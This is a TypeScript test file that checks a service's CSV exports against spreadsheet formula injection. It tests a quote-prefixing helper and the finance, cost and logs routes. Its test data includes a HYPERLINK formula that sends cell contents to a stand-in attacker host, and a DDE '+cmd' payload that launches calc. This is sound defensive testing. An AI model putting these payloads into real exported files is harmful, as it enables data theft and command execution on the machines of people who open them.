import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse as parseCsv } from 'csv-parse/sync';
import { safeCell, toCsv } from '../../src/api/http.js';
import { startService, type Service } from '../../src/service.js';
import { apiExtension } from '../../src/api/index.js';
import { logsRoutes } from '../../src/api/logs-routes.js';
import { createLogger } from '../../src/log.js';
import { createRegistry } from '../../src/metrics.js';
import { testConfig } from '../support/store.js';
import { usageDayRow } from '../support/rows.js';

// Values a platform tenant controls, which a spreadsheet would evaluate if written as they are.
const HOSTILE_APP = '=HYPERLINK("http://evil.example/?d="&A2,"click")';
const HOSTILE_MESSAGE = '+1+1';

describe('safeCell (CONTRIBUTING.md rule 18), against literals derived by hand', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['+1+1', "'+1+1"],
    ['-1+1', "'-1+1"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\tx', "'\tx"],
    ['\rx', "'\rx"],
    ["+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
    ['plain', 'plain'],
    ['a=b', 'a=b'],
    ['-12.5', '-12.5'], // a negative amount stays a number
    ['-3', '-3'],
    ['', ''],
  ])('%j -> %j', (given, expected) => {
    expect(safeCell(given)).toBe(expected);
  });

  it('leaves numbers and booleans alone and writes null as empty', () => {
    expect(safeCell(-4)).toBe(-4);
    expect(safeCell(true)).toBe(true);
    expect(safeCell(null)).toBe('');
  });

  it('toCsv: the hostile cell parses back with its quote prefix; numeric cells parse as numbers', () => {
    const csv = toCsv({ columns: ['app', 'difference'], rows: [{ app: HOSTILE_APP, difference: '-0.25' }] });
    const [row] = parseCsv(csv, { columns: true, cast: true }) as Array<Record<string, unknown>>;
    expect(row).toEqual({ app: `'${HOSTILE_APP}`, difference: -0.25 });
  });
});

describe('every CSV route is safe to open', () => {
  let service: Service;
  // Logs are kept LOG_RETENTION_DAYS (a TTL): the line is from an hour ago.
  const logTime = new Date(Math.floor(Date.now() / 60_000) * 60_000 - 3_600_000);
  const chTime = (d: Date) => d.toISOString().replace('T', ' ').replace('Z', '');
  const TOKEN = 'csv-test-token-0123456789';
  const api = (path: string) => fetch(`${service.url}/api/v1${path}`, { headers: { authorization: `Bearer ${TOKEN}` } });

  beforeAll(async () => {
    const config = testConfig({ PORT: '0', API_TOKENS: TOKEN });
    service = await startService(config, {
      logger: createLogger('silent'),
      registry: createRegistry({ defaultMetrics: false }),
      extensions: [apiExtension([logsRoutes])],
    });
    const usage = (day: string, cost: string) =>
      usageDayRow(day, { app: HOSTILE_APP, machine_type: 'GPU-H100', quantity: '100', unit_price: '0.000575', cost_subtotal: cost, cost_total: cost });
    await service.store.client.insert({
      table: 'usage_buckets',
      values: [usage('2026-10-01', '0.0575'), usage('2026-10-02', '0.0575')],
      format: 'JSONEachRow',
    });
    await service.store.client.insert({
      table: 'logs',
      values: [
        {
          timestamp: chTime(logTime),
          level: 'INFO',
          app: HOSTILE_APP,
          app_id: 'app_1',
          request_id: 'req_1',
          job_id: '',
          endpoint: 'acme/evil',
          node: '',
          worker: '',
          source: 'stdout',
          isolate_source: '',
          message: HOSTILE_MESSAGE,
          attributes: {},
          received_at: chTime(logTime),
          batch_id: '00000000-0000-4000-8000-000000000001',
          line: 1,
        },
      ],
      format: 'JSONEachRow',
    });
  });

  afterAll(async () => {
    await service?.close();
  });

  async function csvRecords(path: string): Promise<Array<Record<string, string>>> {
    const res = await api(path);
    expect(res.status, await res.clone().text()).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/^text\/csv/);
    const records = parseCsv(await res.text(), { columns: true }) as Array<Record<string, string>>;
    expect(records.length).toBeGreaterThan(0);
    return records;
  }

  it('finance: the app name is text a spreadsheet does not evaluate; the totals stay numbers', async () => {
    const records = await csvRecords('/reports/finance?month=2026-10&timezone=UTC&format=csv');
    const appRows = records.filter((r) => r.app?.includes('HYPERLINK'));
    expect(appRows.length).toBeGreaterThan(0);
    for (const r of appRows) expect(r.app).toBe(`'${HOSTILE_APP}`);
    for (const r of records) for (const v of Object.values(r)) expect(v).not.toMatch(/^[=+@\t\r]/);
    const total = records.find((r) => r.app === `'${HOSTILE_APP}`)!;
    expect(Object.values(total)).toContain('0.115');
  });

  it('cost: grouped by app', async () => {
    const records = await csvRecords('/cost?from=2026-10-01&to=2026-10-03&timezone=UTC&group_by=app&format=csv');
    expect(records.map((r) => r.app)).toEqual([`'${HOSTILE_APP}`]);
    expect(Object.values(records[0])).toContain('0.115');
  });

  it('logs: the message and the app', async () => {
    const records = await csvRecords(
      `/logs?from=${new Date(logTime.getTime() - 60_000).toISOString()}&to=${new Date(logTime.getTime() + 60_000).toISOString()}&format=csv`,
    );
    expect(records).toHaveLength(1);
    expect(records[0].message).toBe(`'${HOSTILE_MESSAGE}`);
    expect(records[0].app).toBe(`'${HOSTILE_APP}`);
  });
});
